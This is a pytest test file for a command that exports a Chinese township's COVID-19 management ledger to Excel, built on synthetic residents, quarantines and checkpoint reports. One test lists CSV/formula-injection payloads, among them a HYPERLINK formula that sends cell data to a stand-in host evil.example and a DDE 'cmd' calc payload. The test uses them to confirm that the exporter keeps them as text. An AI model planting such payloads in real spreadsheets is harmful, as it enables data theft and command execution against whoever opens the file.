"""`python main.py export-ledger OUT.xlsx [--village NAME]`: the 台账 workbook, from data written with the models."""

from __future__ import annotations

import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from admin.ledger import load_ledger, open_ledger
from admin.ledger_xlsx import write_ledger
from models.cadre import create_invite, redeem_invite
from models.care import DONE, MISSED, CareAssignment, SamplingRound
from models.checkpoint import CheckpointReport
from models.db import transaction
from models.declaration import SUPERSEDED, Classification, Declaration, HouseholdMember
from models.event import EventReport
from models.fever import FeverReport
from models.person import Person
from models.quarantine import CANCELLED, ENDED, Quarantine
from models.riskarea import RiskList
from models.supplies import SupplyRequest
from models.town import Village
from models.vaccination import Vaccination
from tests.support.live import SHANGHAI, run_cli_here
from town.policy.rules import load_policy

NOW = dt.datetime(2021, 8, 6, 2, 0, tzinfo=dt.UTC)
D = dt.date
SHEETS = ["返乡人员", "隔离管控", "卡点异常", "发热", "物资", "红白事", "疫苗"]
RETURNEE_HEADERS = [
    "序号", "姓名", "身份证号", "联系电话", "代报人", "所在村", "从何地返回", "离开日期", "返回日期", "交通方式",
    "健康码", "管控措施", "开始日期", "结束日期", "已采样", "包保责任人", "依据",
]  # fmt: skip
QUARANTINE_HEADERS = [
    "序号",
    "姓名",
    "联系电话",
    "所在村",
    "管控措施",
    "开始日期",
    "结束日期",
    "核酸采样日期",
    "已采样",
    "包保责任人",
]
CHECKPOINT_HEADERS = [
    "序号", "时间", "卡点/村", "车牌", "姓名", "电话", "从何地来", "健康码", "人数", "处置", "是否已报备", "原文",
]  # fmt: skip
# Place by place: who holds it, and the place nobody holds (no police or grid worker is bound in 鸣皋村).
MINGGAO_PEOPLE = "包村干部：王镇 13800000001；村干部：刘支书 13800000003；村医：赵医生 13800000002；民警或网格员：暂缺"
SUN_PEOPLE = "包村干部：暂缺；村干部：孙书记 13900000009；村医：暂缺；民警或网格员：暂缺"
ID_NUMBER = "410329199001011234"
POLICY = Path(__file__).resolve().parents[1] / "data" / "policy.toml"
LIST_PUBLISHED = dt.datetime(2021, 8, 5, 2, 0, tzinfo=dt.UTC)  # 8月5日10时, Beijing time


class Town:
    """Writes ledger data with the models, in one transaction per call."""

    def __init__(self, server):
        self.db = server.state.db
        with transaction(self.db) as session:
            self.villages = {v.name: v.id for v in session.execute(select(Village)).scalars()}
        self.count = 0
        self.cadres: dict[str, tuple[str, int]] = {}  # name -> (role, person id)

    def person(self, session, name: str | None = None, phone: str | None = None) -> int:
        self.count += 1
        person = Person(openid=f"ledger-{self.count}", name=name, phone=phone, village_id=None)
        session.add(person)
        session.flush()
        return person.id

    def bind(self, village: str, role: str, name: str, phone: str) -> None:
        with transaction(self.db) as session:
            invite = create_invite(session, role=role, village_id=self.villages[village], now=NOW)
            self.cadres[name] = (role, self.person(session, name, phone))
            redeem_invite(session, code=invite.code, person_id=self.cadres[name][1], now=NOW)

    def declare(self, village: str, name: str, arrived: dt.date, *, members=(), **fields) -> int:
        values = {"phone": "13700000000", "health_code": "green", "active_until": arrived + dt.timedelta(days=14)}
        with transaction(self.db) as session:
            declaration = Declaration(
                person_id=self.person(session),
                village_id=self.villages[village],
                name=name,
                arrived_on=arrived,
                created_at=NOW,
                **{**values, **fields},
            )
            session.add(declaration)
            session.flush()
            for member_name, relation in members:
                session.add(HouseholdMember(declaration_id=declaration.id, name=member_name, relation=relation))
            return declaration.id

    def classify(self, declaration_id: int, disposition: str, reason: str, start: dt.date, days: int = 0, **fields):
        end = start + dt.timedelta(days=days) if days else None
        with transaction(self.db) as session:
            row = Classification(
                declaration_id=declaration_id,
                policy_version="test",
                disposition=disposition,
                days=days,
                start_on=start,
                end_on=end,
                reason=reason,
                created_at=NOW,
                **{"rule_id": "test", **fields},
            )
            session.add(row)
            session.flush()
            return row.id

    def quarantine(
        self, declaration_id: int, classification_id: int, kind: str, start, end, samples=(), carers=(), rounds=(),
        **fields,
    ):  # fmt: skip
        """A quarantine record, with the named cadres holding their places in it (四包一) and its sampling rounds."""
        with transaction(self.db) as session:
            declaration = session.get(Declaration, declaration_id)
            record = Quarantine(
                declaration_id=declaration_id,
                classification_id=classification_id,
                person_id=declaration.person_id,
                village_id=declaration.village_id,
                kind=kind,
                start_on=start,
                end_on=end,
                sampling_dates=json.dumps([d.isoformat() for d in samples]),
                created_at=NOW,
                **fields,
            )
            session.add(record)
            session.flush()
            for name in carers:
                role, person_id = self.cadres[name]
                session.add(CareAssignment(quarantine_id=record.id, role=role, person_id=person_id, assigned_at=NOW))
            for day, status in rounds:
                session.add(SamplingRound(quarantine_id=record.id, day=day, status=status))

    def risk_list(self, published_at: dt.datetime | None) -> int:
        with transaction(self.db) as session:
            row = RiskList(source="test", published_at=published_at, checksum=f"c{self.count}", imported_at=NOW)
            self.count += 1
            session.add(row)
            session.flush()
            return row.id

    def proxy(self, name: str, phone: str) -> int:
        with transaction(self.db) as session:
            return self.person(session, name, phone)

    def report(self, village: str | None, seen_at: dt.datetime, text: str, **fields) -> None:
        with transaction(self.db) as session:
            session.add(
                CheckpointReport(
                    reporter_person_id=self.person(session, "卡点值守", "13600000000"),
                    village_id=self.villages[village] if village else None,
                    seen_at=seen_at,
                    text=text,
                    **fields,
                )
            )

    def villager(self, village: str | None, name: str, phone: str) -> tuple[int, int | None]:
        """(person id, village id) of a villager who wrote to the account."""
        with transaction(self.db) as session:
            return self.person(session, name, phone), self.villages[village] if village else None

    def add(self, row) -> None:
        with transaction(self.db) as session:
            session.add(row)


def chat_records(town: Town) -> None:
    """A fever, a supply request, a gathering and a vaccination in each of 鸣皋村 and 孙村 (and a fever nowhere)."""
    for village, name, phone in (("鸣皋村", "钱大", "13711112222"), ("孙村", "孙二", "13733334444")):
        person, village_id = town.villager(village, name, phone)
        town.add(FeverReport(person_id=person, village_id=village_id, temperature=38.5, symptoms="咳嗽",
                             text=f"{name}发烧38度5 电话{phone}", created_at=NOW))  # fmt: skip
        items = json.dumps([{"name": "米", "qty": 2, "unit": "袋"}, {"name": "菜"}])
        town.add(SupplyRequest(person_id=person, village_id=village_id, items=items, urgent=True, text="要米",
                               created_at=NOW))  # fmt: skip
        town.add(EventReport(person_id=person, village_id=village_id, kind="wedding", event_on=D(2021, 8, 20),
                             guests=80, place="村东头", text="下月结婚", created_at=NOW))  # fmt: skip
        town.add(Vaccination(person_id=person, village_id=village_id, name=name, id_number=ID_NUMBER,
                             age_group="18+", doses=2, last_dose_on=D(2021, 7, 1), created_at=NOW))  # fmt: skip
    person, _ = town.villager(None, "路人", "13755556666")
    town.add(FeverReport(person_id=person, village_id=None, text="有人发烧", created_at=NOW, source="report"))


@pytest.fixture
def town(server) -> Town:
    """鸣皋村 with three cadres and two returnees (one with family), 孙村 with one cadre and one from abroad."""
    town = Town(server)
    town.bind("鸣皋村", "village_cadre", "刘支书", "13800000003")
    town.bind("鸣皋村", "township_cadre", "王镇", "13800000001")
    town.bind("鸣皋村", "village_doctor", "赵医生", "13800000002")
    town.bind("鸣皋村", "checkpoint", "卡点老李", "13800000004")  # not a responsible person
    town.bind("孙村", "village_cadre", "孙书记", "13900000009")

    listed = town.risk_list(LIST_PUBLISHED)
    mother = town.proxy("张母", "13600000006")
    zhang = town.declare(
        "鸣皋村", "张三", D(2021, 8, 5), members=[("李四", "妻子"), ("张小明", None)], id_number=ID_NUMBER,
        phone="13700000001", origin_province="河南省", origin_city="郑州市", origin_district="二七区",
        origin_township="长江路街道", transport="train", transport_detail="G1234", health_code="yellow",
        left_on=D(2021, 8, 4), declared_by_person_id=mother, relation="孩子",
    )  # fmt: skip
    old = town.classify(zhang, "集中隔离", "旧的依据：二七区全域", D(2021, 8, 5), 14, status=SUPERSEDED)
    town.quarantine(zhang, old, "集中隔离", D(2021, 8, 5), D(2021, 8, 19), status=CANCELLED)
    new = town.classify(
        zhang, "居家隔离", "因为您…", D(2021, 8, 5), 14, source="override", rule_id="override", note="已核实住址",
        list_id=listed,
    )  # fmt: skip
    samples = [D(2021, 8, 5), D(2021, 8, 8), D(2021, 8, 11), D(2021, 8, 19)]
    rounds = [(D(2021, 8, 5), DONE), (D(2021, 8, 8), DONE), (D(2021, 8, 11), MISSED)]
    town.quarantine(
        zhang,
        new,
        "居家隔离",
        D(2021, 8, 5),
        D(2021, 8, 19),
        samples,
        carers=("刘支书", "王镇", "赵医生"),
        rounds=rounds,
    )

    wang = town.declare(
        "鸣皋村", "王五", D(2021, 8, 1), id_number="41032919851231002X", phone="13700000002",
        origin_province="北京市", origin_city="北京市", origin_district="海淀区", transport="self_drive",
        transport_detail="豫C12345",
    )  # fmt: skip
    town.classify(wang, "无需隔离", "海淀区不在风险地区名单", D(2021, 8, 1), rule_id="not_listed", list_id=listed)

    sun = town.declare(
        "孙村", "孙六", D(2021, 7, 30), phone="13700000003", abroad=True, transport="plane", health_code="red"
    )
    central = town.classify(
        sun, "集中隔离", "境外返回", D(2021, 7, 30), 21, rule_id="abroad", home_start_on=D(2021, 8, 13)
    )
    town.quarantine(
        sun, central, "集中隔离", D(2021, 7, 30), D(2021, 8, 20), home_start_on=D(2021, 8, 13), carers=("孙书记",)
    )

    town.report(
        "鸣皋村", dt.datetime(2021, 8, 6, 1, 30, tzinfo=dt.UTC), "豫A88888 三人 郑州来 黄码 已劝返",
        plate="豫A88888", name="陈七", phone="13500000001", origin="郑州", health_code="yellow", people=3,
        action="劝返",
    )  # fmt: skip
    town.report(
        "孙村", dt.datetime(2021, 8, 5, 12, 0, tzinfo=dt.UTC), "孙六 坐飞机回来 红码", name="孙六",
        health_code="red", people=1, action="转运隔离点", declaration_id=sun,
    )  # fmt: skip
    town.report("鸣皋村", dt.datetime(2021, 8, 5, 0, 0, tzinfo=dt.UTC), "绿码 放行", anomaly=False)
    town.report(None, dt.datetime(2021, 8, 6, 3, 0, tzinfo=dt.UTC), "路口有车辆强行通过", action="已报派出所")
    chat_records(town)
    return town


def export(database_url: str, tmp_path: Path, *args: str) -> openpyxl.Workbook:
    out = tmp_path / "台账.xlsx"
    result = run_cli_here("export-ledger", str(out), *args, DATABASE_URL=database_url)
    assert result.returncode == 0, result.stderr
    assert "已导出" in result.stdout
    return openpyxl.load_workbook(out)


def table(book: openpyxl.Workbook, title: str) -> list[list]:
    return [list(row) for row in book[title].iter_rows(values_only=True)]


def column(rows: list[list], header: str) -> list:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


def test_seven_sheets_with_the_town_headers_frozen_and_bold(town, database_url, tmp_path):
    book = export(database_url, tmp_path)
    assert book.sheetnames == SHEETS
    for title, headers in zip(SHEETS[:3], (RETURNEE_HEADERS, QUARANTINE_HEADERS, CHECKPOINT_HEADERS), strict=True):
        sheet = book[title]
        assert [cell.value for cell in sheet[1]] == headers
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.freeze_panes == "A2"
        assert sheet.column_dimensions["B"].width >= 6
    assert "鸣皋镇" in book.properties.title


def test_returnees_one_row_each_with_family_by_village_then_arrival(town, database_url, tmp_path):
    rows = table(export(database_url, tmp_path), "返乡人员")
    assert column(rows, "序号") == [1, 2, 3, 4, 5]
    assert column(rows, "姓名") == ["王五", "张三", "李四（与张三同行，妻子）", "张小明（与张三同行）", "孙六"]
    zhang = dict(zip(rows[0], rows[2], strict=True))
    assert zhang == {
        "序号": 2,
        "姓名": "张三",
        "身份证号": ID_NUMBER,
        "联系电话": "13700000001",
        "代报人": "张母 13600000006（为其孩子报备）",
        "所在村": "鸣皋村",
        "从何地返回": "河南省郑州市二七区长江路街道",
        "离开日期": dt.datetime(2021, 8, 4),
        "返回日期": dt.datetime(2021, 8, 5),
        "交通方式": "高铁/火车（G1234）",
        "健康码": "黄码",
        "管控措施": "居家隔离（干部调整）",
        "开始日期": dt.datetime(2021, 8, 5),
        "结束日期": dt.datetime(2021, 8, 19),
        "已采样": "2/4",
        "包保责任人": MINGGAO_PEOPLE,
        "依据": "2021年8月4日离开郑州市二七区；干部说明：已核实住址",  # exported now: 2021 is not this year
    }
    wife = dict(zip(rows[0], rows[3], strict=True))
    assert wife["身份证号"] is None and wife["健康码"] is None
    assert wife["代报人"] is None  # her row names 张三; who declared is on his
    assert [wife[k] for k in ("联系电话", "从何地返回", "管控措施", "结束日期", "已采样", "包保责任人")] == [
        "13700000001", "河南省郑州市二七区长江路街道", "居家隔离（干部调整）", dt.datetime(2021, 8, 19), "2/4",
        MINGGAO_PEOPLE,
    ]  # fmt: skip
    assert column(rows, "从何地返回")[0] == "北京市海淀区"
    assert column(rows, "交通方式")[0] == "自驾（豫C12345）"
    assert column(rows, "结束日期")[0] is None
    assert column(rows, "离开日期")[0] is None and column(rows, "代报人")[0] is None  # declared it himself
    assert column(rows, "依据")[0] == "2021年8月1日离开北京市海淀区（不在中高风险地区，2021年8月5日名单）"
    assert column(rows, "已采样")[0] is None  # nothing to sample
    assert not column(rows, "包保责任人")[0]  # no measure, nobody's household: the village's cadres are not listed
    sun = dict(zip(rows[0], rows[5], strict=True))
    assert (sun["从何地返回"], sun["健康码"], sun["包保责任人"]) == ("境外", "红码", SUN_PEOPLE)
    # Entry not asked when it was declared: the measure still reads as the reply and the alert said it.
    measure = "集中隔离14天（2021年7月30日至2021年8月12日），再居家隔离8天（2021年8月13日至2021年8月20日）"
    assert (sun["依据"], sun["已采样"]) == (f"从境外入境返回，回来后{measure}", None)
    assert sun["管控措施"] == "集中隔离（2021-08-13起居家隔离）"
    assert not any("您" in str(value) for row in rows for value in row)  # the ledger speaks of them, not to them
    assert not any("旧的依据" in str(value) for row in rows for value in row)  # superseded
    assert not any("卡点老李" in str(value) for row in rows for value in row)


def test_dates_are_excel_dates_and_numbers_stay_text(town, database_url, tmp_path):
    sheet = export(database_url, tmp_path)["返乡人员"]
    arrived = sheet["I3"]
    assert arrived.is_date and arrived.number_format == "yyyy-mm-dd"
    for cell in (sheet["C3"], sheet["D3"], sheet["C2"], sheet["E3"], sheet["O3"]):
        assert cell.data_type == "s" and cell.number_format == "@"
    assert sheet["C3"].value == ID_NUMBER and sheet["C2"].value == "41032919851231002X"


def test_active_quarantines_only_with_sampling_dates(town, database_url, tmp_path):
    rows = table(export(database_url, tmp_path), "隔离管控")
    assert rows[1:] == [
        [
            1, "张三（同行：李四、张小明）", "13700000001", "鸣皋村", "居家隔离", dt.datetime(2021, 8, 5),
            dt.datetime(2021, 8, 19), "2021-08-05、2021-08-08、2021-08-11、2021-08-19", "2/4", MINGGAO_PEOPLE,
        ],
        [
            2, "孙六", "13700000003", "孙村", "集中隔离（2021-08-13起居家隔离）", dt.datetime(2021, 7, 30),
            dt.datetime(2021, 8, 20), None, None, SUN_PEOPLE,
        ],
    ]  # fmt: skip


def test_checkpoint_anomalies_in_local_time_with_declared_or_not(town, database_url, tmp_path):
    rows = table(export(database_url, tmp_path), "卡点异常")
    assert rows[1:] == [
        [1, dt.datetime(2021, 8, 5, 20, 0), "孙村", None, "孙六", None, None, "红码", 1, "转运隔离点", "是",
         "孙六 坐飞机回来 红码"],
        [2, dt.datetime(2021, 8, 6, 9, 30), "鸣皋村", "豫A88888", "陈七", "13500000001", "郑州", "黄码", 3, "劝返",
         "否", "豫A88888 三人 郑州来 黄码 已劝返"],
        [3, dt.datetime(2021, 8, 6, 11, 0), "未注明", None, None, None, None, None, None, "已报派出所", "否",
         "路口有车辆强行通过"],
    ]  # fmt: skip


def test_village_limits_every_sheet_typed_as_villagers_type_it(town, database_url, tmp_path):
    book = export(database_url, tmp_path, "--village", "明皋")  # a homophone of 鸣皋
    for title in SHEETS:
        rows = table(book, title)
        villages = column(rows, "卡点/村" if title == "卡点异常" else "所在村")
        assert villages and set(villages) == {"鸣皋村"}, title
    assert column(table(book, "返乡人员"), "序号") == [1, 2, 3, 4]
    assert "鸣皋村" in book.properties.title


def test_unknown_village_is_an_error_with_close_matches(town, database_url, tmp_path):
    out = tmp_path / "x.xlsx"
    result = run_cli_here("export-ledger", str(out), "--village", "叶寨", DATABASE_URL=database_url)
    assert result.returncode == 2
    assert "叶寨" in result.stderr and "东叶寨村" in result.stderr and "西叶寨村" in result.stderr
    assert not out.exists()
    result = run_cli_here("export-ledger", str(out), "--village", "北京", DATABASE_URL=database_url)
    assert result.returncode == 2 and "没有找到村「北京」" in result.stderr
    assert not out.exists()


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "@SUM(A1:A9)", "-2+3", "\t=1", "\r=2"]


def test_text_that_looks_like_a_formula_stays_text(server, database_url, tmp_path):
    town = Town(server)
    for number, name in enumerate(HOSTILE):
        town.declare("鸣皋村", name, D(2021, 8, number + 1), id_number=ID_NUMBER, members=[("=1+1", "=A1")])
    town.report("鸣皋村", NOW, "=cmd|' /C calc'!A0", name="@SUM(1)", action="-1")
    out = tmp_path / "台账.xlsx"
    assert run_cli_here("export-ledger", str(out), DATABASE_URL=database_url).returncode == 0
    with zipfile.ZipFile(out) as package:
        sheets = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)

    book = openpyxl.load_workbook(out)
    names = [row[1] for row in book["返乡人员"].iter_rows(min_row=2)]
    # XML parsers read a raw carriage return as a line feed (Excel too); what matters is that it stays text.
    assert [cell.value for cell in names[::2]] == [name.replace("\r", "\n") for name in HOSTILE]
    assert names[1].value == '=1+1（与=HYPERLINK("http://evil.example/?x="&A1,"点我")同行，=A1）'
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    assert {row[2].value for row in book["返乡人员"].iter_rows(min_row=2) if row[2].value} == {ID_NUMBER}
    report = {cell.column_letter: cell for cell in book["卡点异常"][2]}
    assert (report["E"].value, report["J"].value, report["L"].value) == ("@SUM(1)", "-1", "=cmd|' /C calc'!A0")
    assert all(report[c].quotePrefix and report[c].data_type == "s" for c in "EJL")


def test_workbook_writes_to_a_file_like_object(town, server):
    with transaction(server.state.db) as session:
        ledger = load_ledger(session, town="鸣皋镇", now=NOW, tz=SHANGHAI)
    buffer = io.BytesIO()
    write_ledger(ledger, buffer)
    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    assert book.sheetnames == SHEETS
    assert book["返乡人员"].max_row == 6
    assert ledger.exported_at == NOW.astimezone(SHANGHAI)


def test_empty_town_exports_headers_only(server, database_url, tmp_path):
    book = export(database_url, tmp_path)
    assert [book[title].max_row for title in SHEETS] == [1] * 7
    assert table(book, "返乡人员") == [RETURNEE_HEADERS]


def _basis(town: Town, now: dt.datetime) -> dict[str, str]:
    with transaction(town.db) as session:
        ledger = load_ledger(session, town="鸣皋镇", now=now, tz=SHANGHAI, policy=load_policy(POLICY))
    return {row[1]: row[-1] for row in ledger.sheets[0].rows}


def test_basis_in_the_third_person_from_the_facts_with_the_year_only_when_not_this_year(town):
    listed = town.risk_list(LIST_PUBLISHED)
    area = {"matched_area": "河南省郑州市二七区长江路街道（长江路街道）", "list_id": listed}
    cases = {
        "赵一": ("medium_risk_14d", {"matched_level": "medium", **area}, {}),
        "赵二": ("related_district_14d", {"matched_level": "high", **area}, {}),
        "赵三": ("left_over_14d", {}, {"left_on": D(2021, 7, 1)}),
        "赵四": ("health_code_yellow_red", {}, {"health_code": "yellow"}),
        "赵五": ("a_rule_since_removed", {"matched_level": "high", **area}, {}),
        "赵六": ("not_listed", {}, {"origin_district": None, "origin_city": None, "origin_province": None}),
    }
    origin = {"origin_province": "河南省", "origin_city": "郑州市", "origin_district": "二七区"}
    for name, (rule, facts, declared) in cases.items():
        found = town.declare("孙村", name, D(2021, 8, 6), **{"left_on": D(2021, 8, 4), **origin, **declared})
        town.classify(found, "居家隔离", "因为您…", D(2021, 8, 6), 14, rule_id=rule, **facts)
    in_year = _basis(town, NOW)
    assert {name: in_year[name] for name in cases} == {
        "赵一": "8月4日离开郑州市二七区（中风险：长江路街道，8月5日名单）",
        "赵二": "8月4日离开郑州市二七区（关联区域，区内有高风险地区长江路街道，8月5日名单）",
        "赵三": "7月1日离开郑州市二七区，已超过14天",
        "赵四": "健康码为黄码，8月4日离开郑州市二七区",
        "赵五": "8月4日离开郑州市二七区（高风险：长江路街道，8月5日名单）",  # read from the stored facts
        "赵六": "8月4日离开外地（不在中高风险地区，当时的名单）",
    }
    next_year = _basis(town, dt.datetime(2022, 3, 1, 2, 0, tzinfo=dt.UTC))
    assert next_year["赵一"] == "2021年8月4日离开郑州市二七区（中风险：长江路街道，2021年8月5日名单）"
    assert in_year["张三"] == "8月4日离开郑州市二七区；干部说明：已核实住址"
    assert not any("您" in text for text in in_year.values())


def test_basis_names_a_list_without_a_publication_time_by_its_import_day(server):
    town = Town(server)
    unlisted = town.risk_list(None)
    found = town.declare("孙村", "钱七", D(2021, 8, 6), origin_province="北京市", origin_city="北京市",
                         origin_district="海淀区")  # fmt: skip
    town.classify(found, "无需隔离", "因为您…", D(2021, 8, 6), rule_id="not_listed", list_id=unlisted)
    assert _basis(town, NOW)["钱七"] == "8月6日离开北京市海淀区（不在中高风险地区，8月6日导入的名单）"


def test_sampling_counts_rounds_done_of_the_measure_in_force_even_once_ended(server):
    town = Town(server)
    found = town.declare("孙村", "周八", D(2021, 7, 1))
    old = town.classify(found, "集中隔离", "旧", D(2021, 7, 1), 14, status=SUPERSEDED)
    town.quarantine(found, old, "集中隔离", D(2021, 7, 1), D(2021, 7, 14), [D(2021, 7, 1)], status=CANCELLED,
                    rounds=[(D(2021, 7, 1), DONE)])  # fmt: skip
    new = town.classify(found, "居家健康监测", "新", D(2021, 7, 1), 7)
    town.quarantine(found, new, "居家健康监测", D(2021, 7, 1), D(2021, 7, 7), [D(2021, 7, 1), D(2021, 7, 7)],
                    status=ENDED, rounds=[(D(2021, 7, 1), DONE), (D(2021, 7, 7), DONE)])  # fmt: skip
    with transaction(town.db) as session:
        rows = load_ledger(session, town="鸣皋镇", now=NOW, tz=SHANGHAI).sheets[0].rows
    assert [row[RETURNEE_HEADERS.index("已采样")] for row in rows] == ["2/2"]


def _book(town: Town, **options) -> openpyxl.Workbook:
    """The workbook as the dashboard streams it (inside one transaction), opened again."""
    buffer = io.BytesIO()
    with transaction(town.db) as session:
        ledger = open_ledger(session, town="鸣皋镇", now=NOW, tz=SHANGHAI, **options)
        counts = write_ledger(ledger, buffer)
    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    assert counts == {title: book[title].max_row - 1 for title in SHEETS}
    return book


def test_fevers_supplies_gatherings_and_vaccination_each_have_their_sheet(town):
    book = _book(town)
    fevers = table(book, "发热")
    assert fevers[0] == ["序号", "报告时间", "所在村", "报告人", "联系电话", "发热人", "体温", "症状", "来源", "状态",
                         "处理时间", "处理情况", "原文"]  # fmt: skip
    assert column(fevers, "所在村") == ["鸣皋村", "孙村", "未注明"]
    first = dict(zip(fevers[0], fevers[1], strict=True))
    assert (first["报告时间"], first["体温"], first["状态"], first["来源"]) == (
        dt.datetime(2021, 8, 6, 10, 0),
        38.5,
        "待跟进",
        "报告",
    )
    supplies = dict(zip(*table(book, "物资")[:2], strict=True))
    assert (supplies["物品"], supplies["加急"], supplies["状态"], supplies["联系电话"]) == (
        "米2袋、菜",
        "是",
        "待接单",
        "13711112222",
    )
    event = dict(zip(*table(book, "红白事")[:2], strict=True))
    assert (event["类型"], event["日期"], event["人数"], event["地点"]) == (
        "结婚",
        dt.datetime(2021, 8, 20),
        80,
        "村东头",
    )
    vaccine = dict(zip(*table(book, "疫苗")[:2], strict=True))
    assert (vaccine["姓名"], vaccine["身份证号"], vaccine["年龄段"], vaccine["已接种剂次"]) == (
        "钱大",
        ID_NUMBER,
        "18岁以上",
        2,
    )
    assert book["疫苗"]["D2"].number_format == "@" and book["物资"]["F2"].number_format == "@"


def test_a_viewer_s_villages_limit_every_sheet_and_masking_hides_phones_and_id_numbers(town):
    book = _book(town, villages=[town.villages["孙村"]], masked=True)
    for title in SHEETS:
        rows = table(book, title)
        villages = column(rows, "卡点/村" if title == "卡点异常" else "所在村")
        assert villages and set(villages) == {"孙村"}, title
    cells = [str(value) for title in SHEETS for row in table(book, title) for value in row if value is not None]
    assert not any(phone in cell for cell in cells for phone in ("13733334444", "13700000003"))
    assert SUN_PEOPLE in cells  # a cadre's work phone stays: it is the number to call
    assert ID_NUMBER not in cells
    assert column(table(book, "发热"), "联系电话") == ["137****4444"]
    assert column(table(book, "发热"), "原文") == ["孙二发烧38度5 电话137****4444"]
    assert column(table(book, "疫苗"), "身份证号") == ["410***********1234"]
    nobody = _book(town, villages=[])
    assert [nobody[title].max_row for title in SHEETS] == [1] * 7
